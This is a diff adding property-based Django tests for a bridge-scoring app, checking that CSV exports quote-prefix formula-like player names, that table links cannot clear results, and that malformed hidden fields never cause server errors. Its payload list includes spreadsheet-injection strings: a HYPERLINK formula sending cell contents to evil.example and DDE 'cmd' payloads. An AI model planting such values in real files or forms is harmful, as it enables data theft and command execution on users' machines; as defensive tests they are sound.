@@ -6,7 +6,9 @@ Each example is counted (``tried``); ``pytest tests/reliability`` prints the tot
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import json
 import os
 import random
@@ -28,7 +30,8 @@ from django.utils.html import escape
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from duplicate import services
+from duplicate import exports, services
+from duplicate.exports.cells import FORMULA_START
 from duplicate.models import Event, Pair, PlayChange, Seating
 from duplicate.services import eventfile
 from scoring import ScoringError
@@ -937,3 +940,82 @@ def test_nul_in_pair_names_is_a_form_error(world, field, value):
     assert response.status_code == 200
     assert 'class="errorlist' in response.content.decode()
     assert db_snapshot() == before
+
+
+# --- Spreadsheet formulas, a table link's clear, the table links page's hidden fields ----------------------
+
+FORMULA_NAMES = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "=1+1",
+    "#N/A",
+    "-30",
+]
+
+
+def _csv_number(cell: str) -> bool:
+    return all(part.lstrip("-").isdecimal() for part in cell.split("/", 1))
+
+
+@hsettings(40)
+@given(data=st.data())
+def test_csv_cells_never_read_as_formulas(world, data):
+    """Hostile players' names through the pair form: in both public CSVs no cell starts as a formula, an
+    error code or a tab unless it is a number; a stored name that would is there quote-prefixed."""
+    with rolled_back():
+        event, pair = world["event"], world["pair"]
+        names = {
+            f"player{i}": data.draw(st.sampled_from(FORMULA_NAMES) | text, label=f"player{i}") for i in (1, 2)
+        }
+        world["director"].post(reverse("pair_edit", args=[event.pk, pair.pk]), names)
+        tried("csv formula")
+        pair.refresh_from_db()
+        stored = [p.name for p in (pair.player1, pair.player2) if p is not None]
+        cells = [
+            cell
+            for body in (exports.standings_file(event, "csv"), exports.results_file(event))
+            for row in csv.reader(io.StringIO(body.decode()))
+            for cell in row
+        ]
+        for cell in cells:
+            assert not cell.startswith(FORMULA_START) or _csv_number(cell), cell
+        for name in stored:
+            assert (f"'{name}" if name.startswith(FORMULA_START) else name) in cells
+
+
+@hsettings(30)
+@given(data=st.data())
+def test_a_table_link_never_clears(world, data):
+    """A clear posted through a table link, with any other fields: refused (403, or the form's own error),
+    and the result stays."""
+    with rolled_back():
+        token, event = world["token"], world["event"]
+        play = plays_at(event, 1, 1)[data.draw(st.integers(0, 1), label="board")]
+        post = board_data(play, action="clear")
+        for key in data.draw(st.lists(st.sampled_from(sorted(ENTRY_VALUES)), max_size=4, unique=True)):
+            if key != "action":
+                post[f"b{play.pk}-{key}"] = data.draw(ENTRY_VALUES[key], label=key)
+        headers = {"HTTP_X_REQUESTED_WITH": "fetch"} if data.draw(st.booleans(), label="fetch") else {}
+        before = db_snapshot()
+        response = Client().post(reverse("entry_token", args=[token.secret]), post, **headers)
+        tried("table link clear")
+        assert response.status_code in (403, 409, 422), response.status_code
+        assert db_snapshot() == before
+
+
+@hsettings(60)
+@given(action=st.sampled_from(["revoke", "create", "create_all", ""]) | text, token=text, section=text)
+def test_table_links_page_hidden_fields(world, action, token, section):
+    """The table links page's hidden fields, damaged: a 400 naming the field, a 404 for no such row, or the
+    action done; never a 500."""
+    with rolled_back():
+        url = reverse("entry_tokens", args=[world["event"].pk])
+        post = {"action": action, "token": token, "section": section, "table": "1"}
+        response = world["director"].post(url, post)
+        tried("table links hidden field")
+        assert response.status_code in (302, 400, 404), (post, response.status_code)
+        if response.status_code == 400:
+            html = response.content.decode()
+            assert any(f"{field}: " in html for field in ("action", "token", "section")), post
